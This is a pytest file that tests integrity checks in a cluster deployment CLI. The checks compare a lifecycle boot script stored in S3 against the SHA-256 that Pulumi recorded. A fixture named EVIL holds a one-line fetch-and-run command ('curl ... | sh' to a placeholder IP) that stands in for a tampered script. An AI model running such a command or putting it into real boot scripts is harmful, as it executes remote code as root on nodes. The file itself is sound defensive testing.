"""`hyperpod-dpd preflight` and `verify --stack` read the nodes' boot script back from S3 (a local
moto server) and compare its SHA-256 with the one the stack's `pulumi up` recorded (the outputs
lifecycleBucket and lifecycleScriptSha256, from a `pulumi` shim on PATH): a replaced or deleted
script fails with the cause, the fix and the troubleshooting section; one that cannot be
compared (no stack output) warns (preflight) or is skipped (verify)."""

from __future__ import annotations

import argparse
import hashlib
import json

import boto3
import pytest
from botocore.stub import Stubber

from hyperpod_dpd.cli.preflight import register
from hyperpod_dpd.preflight.checks import FAIL, PASS, WARN, boot_checks
from hyperpod_dpd.shared import boot_script, boot_versions, lifecycle_config
from hyperpod_dpd.shared.boot_script import Deployed, compare
from hyperpod_dpd.verify.results import SKIP
from specs.lifecycle import ON_CREATE_KEY, on_create_bytes, on_create_sha256
from tests.conftest import stack_raw, write_project
from tests.hyperpod_dpd.shared.conftest import REGION, pulumi_says
from tests.hyperpod_dpd.verify.conftest import parse
from tests.hyperpod_dpd.verify.fake_kube import FakeKube

BUCKET = "sagemaker-70dfea2b216bc8352929"


@pytest.fixture
def s3(s3_client):
    """A client of the local S3, the versioned lifecycle bucket holding this checkout's script
    as `pulumi up` uploads it."""
    client = s3_client
    names = {b["Name"] for b in client.list_buckets()["Buckets"]}
    if BUCKET not in names:
        client.create_bucket(
            Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION}
        )
        client.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
    client.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=on_create_bytes())
    return client


DEPLOYED = Deployed("dev", BUCKET, on_create_sha256())
EVIL = b"#!/bin/bash\ncurl -s http://198.51.100.7/x | sh\n"


def test_the_script_pulumi_uploaded_passes(s3):
    v = compare(s3, DEPLOYED)
    assert v.result == "pass", v
    assert v.detail.startswith(f"s3://{BUCKET}/{ON_CREATE_KEY} (version ")
    assert f"sha256 {on_create_sha256()[:12]}" in v.detail


def test_a_replaced_script_fails_naming_both_digests_the_cause_and_the_fix(s3):
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=EVIL)
    v = compare(s3, DEPLOYED)
    assert v.result == "FAIL"
    evil = hashlib.sha256(EVIL).hexdigest()
    assert f"has sha256 {evil[:12]}" in v.detail
    assert f"not the {on_create_sha256()[:12]} `pulumi up` uploaded" in v.detail
    assert "ran that script as root" in v.cause
    assert f"list-object-versions --bucket {BUCKET} --prefix {ON_CREATE_KEY}" in v.fix
    assert "pulumi up --refresh --stack dev" in v.fix and "replace every node" in v.fix
    assert v.ref == "docs/troubleshooting.md#boot-script-changed"


def test_a_deleted_script_fails(s3):
    s3.delete_object(Bucket=BUCKET, Key=ON_CREATE_KEY)  # a delete marker: versions stay
    v = compare(s3, DEPLOYED)
    assert v.result == "FAIL" and "does not exist" in v.detail and v.fix


def test_a_checkout_ahead_of_the_stack_is_said_not_failed(s3):
    """The repository's script changed since the last `pulumi up`: S3 still holds the deployed
    one, which passes; the detail says the next `pulumi up` uploads the new one."""
    older = b"#!/bin/bash\necho older\n"
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=older)
    v = compare(s3, Deployed("dev", BUCKET, hashlib.sha256(older).hexdigest()))
    assert v.result == "pass" and "the next `pulumi up` uploads it" in v.detail


def _by_name(checks) -> dict:
    return {c.name if hasattr(c, "name") else c["name"]: c for c in checks}


def test_preflight_fails_a_changed_script_and_warns_when_it_cannot_compare(s3):
    assert _by_name(boot_checks(DEPLOYED, lambda service: s3))[boot_script.CHECK].result == PASS
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=EVIL)
    check = _by_name(boot_checks(DEPLOYED, lambda service: s3))[boot_script.CHECK]
    assert check.result == FAIL
    assert "see docs/troubleshooting.md#boot-script-changed" in check.fix
    unknown = Deployed("dev", None, None, "no lifecycleBucket output (no `pulumi` on PATH)")
    warned = boot_checks(unknown, lambda service: pytest.fail("no AWS call without a bucket"))
    assert [c.result for c in warned] == [WARN, WARN, WARN]
    assert all("no `pulumi` on PATH" in c.detail for c in warned)


def test_preflight_command_reads_the_stack_outputs(s3, tmp_path, monkeypatch, capsys):
    """The whole command: the outputs from `pulumi stack output`, the object from S3."""
    from hyperpod_dpd.preflight import command

    project = write_project(tmp_path / "project", stack_raw("dev"), "dev")
    pulumi_says(tmp_path, monkeypatch, {
        "lifecycleBucket": BUCKET, "lifecycleScriptSha256": on_create_sha256(),
    })  # fmt: skip
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=EVIL)
    monkeypatch.setattr(command.aws_checks, "_STEPS", ())  # the capacity checks: test_checks.py
    parser = argparse.ArgumentParser(prog="hyperpod-dpd")
    register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(["preflight", "--stack", "dev", "--format", "json"])
    args.client_factory = lambda service: s3
    assert command.run(args, project) == 1
    rows = _by_name(json.loads(capsys.readouterr().out))
    assert rows[boot_script.CHECK]["result"] == FAIL
    # Not recorded by this stack's outputs: said, not failed.
    assert rows[boot_versions.CHECK]["result"] == WARN
    assert "no lifecycleScriptVersionId" in rows[boot_versions.CHECK]["detail"]
    assert rows[lifecycle_config.CHECK]["result"] == WARN


@pytest.fixture
def fake():
    kube = FakeKube()
    with kube.serving():
        yield kube


def test_verify_with_a_stack_fails_a_changed_script(s3, fake, tmp_path, monkeypatch, capsys):
    from hyperpod_dpd.verify.command import run

    project = write_project(tmp_path / "project", stack_raw("dev"), "dev")
    argv = ["--kubeconfig", str(fake.kubeconfig(tmp_path)), "--stack", "dev", "--no-prompts",
            "--format", "json", "--api-timeout", "5", "--poll-interval", "0.01"]  # fmt: skip
    args = parse(argv)
    args.client_factory = lambda service: s3
    # No stack outputs here: the check says why it was skipped.
    monkeypatch.setenv("PATH", str(tmp_path / "nothing"))
    run(args, project)
    skipped = _by_name(json.loads(capsys.readouterr().out)["checks"])[boot_script.CHECK]
    assert skipped["result"] == SKIP
    pulumi_says(tmp_path, monkeypatch, {
        "lifecycleBucket": BUCKET, "lifecycleScriptSha256": on_create_sha256(),
    })  # fmt: skip
    run(args, project)
    checks = _by_name(json.loads(capsys.readouterr().out)["checks"])
    assert checks[boot_script.CHECK]["result"] == "pass"
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=EVIL)
    assert run(args, project) == 1
    check = _by_name(json.loads(capsys.readouterr().out)["checks"])[boot_script.CHECK]
    assert check["result"] == "FAIL"
    assert check["ref"] == "docs/troubleshooting.md#boot-script-changed"
    assert "pulumi up --refresh --stack dev" in check["fix"]


CLUSTER = "arn:aws:sagemaker:us-east-2:123456789012:cluster/a65a64ad5118"
ROLE = "arn:aws:iam::123456789012:role/hyperpod-execution-role-f5c3109"


def _rewritten_and_repointed(s3, stub) -> dict[str, str]:
    """The script replaced then put back (same digest), and the decode group pointed at the
    account's default SageMaker bucket: the stack's outputs as `pulumi up` recorded them."""
    version = s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=on_create_bytes())["VersionId"]
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=EVIL)
    s3.put_object(Bucket=BUCKET, Key=ON_CREATE_KEY, Body=on_create_bytes())
    group = {"InstanceGroupName": "decode", "ExecutionRole": ROLE, "LifeCycleConfig": {
        "SourceS3Uri": "s3://sagemaker-us-east-2-123456789012/", "OnCreate": "on_create.sh"}}  # fmt: skip
    answer = {"ClusterArn": CLUSTER, "ClusterStatus": "InService", "InstanceGroups": [group]}
    stub.add_response("describe_cluster", answer, {"ClusterName": CLUSTER})
    return {
        "lifecycleBucket": BUCKET, "lifecycleScriptSha256": on_create_sha256(),
        "lifecycleScriptVersionId": version, "hyperpodClusterArn": CLUSTER,
        "hyperpodExecutionRoleArn": ROLE,
    }  # fmt: skip


@pytest.fixture
def sagemaker():
    client = boto3.client("sagemaker", region_name=REGION, aws_access_key_id="x",
                          aws_secret_access_key="x")  # fmt: skip
    with Stubber(client) as stub:
        yield client, stub
        stub.assert_no_pending_responses()


def test_preflight_fails_a_rewritten_script_and_a_repointed_group(
    s3, sagemaker, tmp_path, monkeypatch, capsys
):
    from hyperpod_dpd.preflight import command

    client, stub = sagemaker
    project = write_project(tmp_path / "project", stack_raw("dev"), "dev")
    pulumi_says(tmp_path, monkeypatch, _rewritten_and_repointed(s3, stub))
    monkeypatch.setattr(command.aws_checks, "_STEPS", ())  # the capacity checks: test_checks.py
    parser = argparse.ArgumentParser(prog="hyperpod-dpd")
    register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(["preflight", "--stack", "dev", "--format", "json"])
    args.client_factory = {"s3": s3, "sagemaker": client}.__getitem__
    assert command.run(args, project) == 1
    rows = _by_name(json.loads(capsys.readouterr().out))
    assert rows[boot_script.CHECK]["result"] == PASS  # the digest alone sees nothing
    assert rows[boot_versions.CHECK]["result"] == FAIL
    assert rows[lifecycle_config.CHECK]["result"] == FAIL
    assert "group decode: LifeCycleConfig.SourceS3Uri" in rows[lifecycle_config.CHECK]["detail"]
    assert (
        "see docs/troubleshooting.md#lifecycle-config-changed"
        in (rows[lifecycle_config.CHECK]["fix"])
    )


def test_verify_with_a_stack_fails_them_too(s3, sagemaker, fake, tmp_path, monkeypatch, capsys):
    from hyperpod_dpd.verify.command import run

    client, stub = sagemaker
    project = write_project(tmp_path / "project", stack_raw("dev"), "dev")
    argv = ["--kubeconfig", str(fake.kubeconfig(tmp_path)), "--stack", "dev", "--no-prompts",
            "--format", "json", "--api-timeout", "5", "--poll-interval", "0.01"]  # fmt: skip
    args = parse(argv)
    args.client_factory = {"s3": s3, "sagemaker": client}.__getitem__
    pulumi_says(tmp_path, monkeypatch, _rewritten_and_repointed(s3, stub))
    assert run(args, project) == 1
    checks = _by_name(json.loads(capsys.readouterr().out)["checks"])
    assert checks[boot_versions.CHECK]["result"] == "FAIL"
    assert checks[boot_versions.CHECK]["ref"] == "docs/troubleshooting.md#boot-script-changed"
    assert checks[lifecycle_config.CHECK]["result"] == "FAIL"
    assert "UpdateCluster" in checks[lifecycle_config.CHECK]["cause"]
